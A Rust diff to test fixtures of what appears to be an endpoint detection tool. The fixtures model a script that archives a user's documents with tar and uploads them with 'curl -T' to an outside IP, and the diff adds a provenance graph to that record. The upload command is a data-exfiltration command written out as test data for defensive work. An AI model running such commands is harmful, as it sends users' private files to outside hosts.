@@ -1,8 +1,11 @@
 //! Records for tests: a script that archived documents and sent them with curl.
 
-use std::{borrow::Cow, sync::Arc};
+use std::{borrow::Cow, net::SocketAddr, sync::Arc, time::Duration};
 
-use super::{Action, Alert, Body, Destination, FileSeen, Host, Link, Record, SignalLine, Totals};
+use super::{
+    Action, Alert, Body, Destination, FileSeen, Host, Link, Record, Scale, SignalLine, Totals, Touched,
+    graph::{Edge, EdgeKind, Graph, Node},
+};
 use crate::{
     detect::{Analytic, Object, Signal, Stage},
     event::{Bytes, Coverage, Identity, Ids, Loss, Path, ProcessKey, Script, ScriptOrigin},
@@ -71,11 +74,16 @@ pub(crate) fn alert(action: Action, revision: u32, bytes_out: u64) -> Alert {
     let curl =
         process(4202, 4200, "/usr/bin/curl", &[b"curl", b"-T", b"/var/tmp/a.tgz", b"https://198.51.100.7/"]);
     let (shell, tar, curl) = (Arc::new(shell), Arc::new(tar), Arc::new(curl));
-    let link = |process: &Arc<Process>, did: &[&str], bytes_out| Link {
+    let link = |process: &Arc<Process>, did: &[&str], bytes_out, read, wrote| Link {
         process: Arc::clone(process),
         did: did.iter().map(|&deed| deed.to_owned()).collect(),
         bytes_out,
+        read,
+        wrote,
     };
+    let (none, archive, documents_read) = (Touched::default, || seen("/var/tmp/a.tgz", 1, 12_000_000), 42);
+    let documents_read = seen("/home/alice/Documents/plan.pdf", documents_read, 12_600_000);
+    let processes = [&shell, &tar, &curl].map(|process| process.key);
     let remote = "198.51.100.7:443".parse().unwrap();
     let mut own = weighted(
         Analytic::TrafficFlow,
@@ -122,10 +130,12 @@ pub(crate) fn alert(action: Action, revision: u32, bytes_out: u64) -> Alert {
         process: Arc::clone(&curl),
         parent: Some(Arc::clone(&shell)),
         chain: vec![
-            link(&shell, &["ran the script /home/alice/collect.sh"], 0),
-            link(&tar, &["read 42 documents", "wrote /var/tmp/a.tgz"], 0),
-            link(&curl, &["read /var/tmp/a.tgz"], bytes_out),
+            link(&shell, &["ran the script /home/alice/collect.sh"], 0, none(), none()),
+            link(&tar, &["read 42 documents", "wrote /var/tmp/a.tgz"], 0, documents_read, archive()),
+            link(&curl, &["read /var/tmp/a.tgz"], bytes_out, archive(), none()),
         ],
+        graph: graph(processes, remote, bytes_out),
+        scale: Scale { threshold: 8.0, half_life: Duration::from_mins(30) },
         destinations: vec![Destination { remote, protocol: 6, bytes_out }],
         source: Some("198.51.100.1:40112".parse().unwrap()),
         files: vec![FileSeen {
@@ -140,6 +150,38 @@ pub(crate) fn alert(action: Action, revision: u32, bytes_out: u64) -> Alert {
         coverage: vec!["open.io_uring: off".to_owned()],
         boot_to_wall_ns: BOOT_TO_WALL,
     }
+}
+
+/// `count` files, of which one is listed.
+fn seen(path: &str, count: u64, bytes: u64) -> Touched {
+    let file = FileSeen { path: Bytes::from(path), size: bytes / count, why: "document".to_owned() };
+    Touched { files: vec![file], count, bytes }
+}
+
+/// The script, tar and curl; the documents, the archive, the destination.
+fn graph(processes: [ProcessKey; 3], remote: SocketAddr, bytes_out: u64) -> Graph {
+    let mut nodes: Vec<Node> = processes.into_iter().map(Node::Process).collect();
+    nodes.extend([
+        Node::Files { place: Bytes::from("/home/alice/Documents"), count: 42, bytes: 12_600_000 },
+        Node::File { path: Bytes::from("/var/tmp/a.tgz"), size: 12_000_000 },
+        Node::Destination { remote, protocol: 6 },
+    ]);
+    let edge = |from, to, kind, bytes, after: u64| Edge {
+        from,
+        to,
+        kind,
+        bytes,
+        first: Some(1_000 * SECOND + after * SECOND / 10),
+    };
+    let edges = vec![
+        edge(0, 1, EdgeKind::Forked, None, 0),
+        edge(3, 1, EdgeKind::Read, Some(12_600_000), 1),
+        edge(1, 4, EdgeKind::Wrote, Some(12_000_000), 2),
+        edge(0, 2, EdgeKind::Forked, None, 30),
+        edge(4, 2, EdgeKind::Read, Some(12_000_000), 31),
+        edge(2, 5, EdgeKind::Sent, Some(bytes_out), 32),
+    ];
+    Graph { nodes, edges, ..Graph::default() }
 }
 
 pub(crate) fn signal() -> SignalLine {
@@ -239,8 +281,17 @@ pub(crate) fn hostile() -> Alert {
     }));
     let process = Arc::new(process);
     let mut alert = alert(Action::Opened, 1, 6_000_000);
-    alert.chain =
-        vec![Link { process: Arc::clone(&process), did: vec!["wrote\n\u{1b}[31m".to_owned()], bytes_out: 9 }];
+    let evil_file = FileSeen { path: Bytes::from(evil), size: 1, why: "\u{1b}[31m".to_owned() };
+    let touched = Touched { files: vec![evil_file], count: 1, bytes: 1 };
+    alert.chain = vec![Link {
+        process: Arc::clone(&process),
+        did: vec!["wrote\n\u{1b}[31m".to_owned()],
+        bytes_out: 9,
+        read: touched.clone(),
+        wrote: touched,
+    }];
+    alert.graph = graph([process.key; 3], "198.51.100.7:443".parse().unwrap(), 9);
+    alert.graph.nodes[4] = Node::File { path: Bytes::from(evil), size: 1 };
     alert.files[0].path = Bytes::from(evil);
     alert.trusted_by = vec!["a\rb".to_owned()];
     alert.parent = None;
@@ -268,7 +319,17 @@ pub(crate) fn monstrous() -> Alert {
         ..script()
     }));
     let process = Arc::new(process);
-    let link = Link { process: Arc::clone(&process), did: vec!["\"\\".repeat(500); 50], bytes_out: u64::MAX };
+    let file = FileSeen { path: Bytes::from(long.as_str()), size: 1, why: long.clone() };
+    let touched = Touched { files: vec![file; 2], count: u64::MAX, bytes: u64::MAX };
+    let link = Link {
+        process: Arc::clone(&process),
+        did: vec!["\"\\".repeat(500); 50],
+        bytes_out: u64::MAX,
+        read: touched.clone(),
+        wrote: touched,
+    };
+    alert.graph.nodes = vec![Node::File { path: Bytes::from(long.as_str()), size: 1 }; 64];
+    alert.graph.edges = vec![alert.graph.edges[0]; 192];
     alert.chain = vec![link; 300];
     for (index, link) in alert.chain.iter_mut().enumerate() {
         let mut own = (*process).clone();
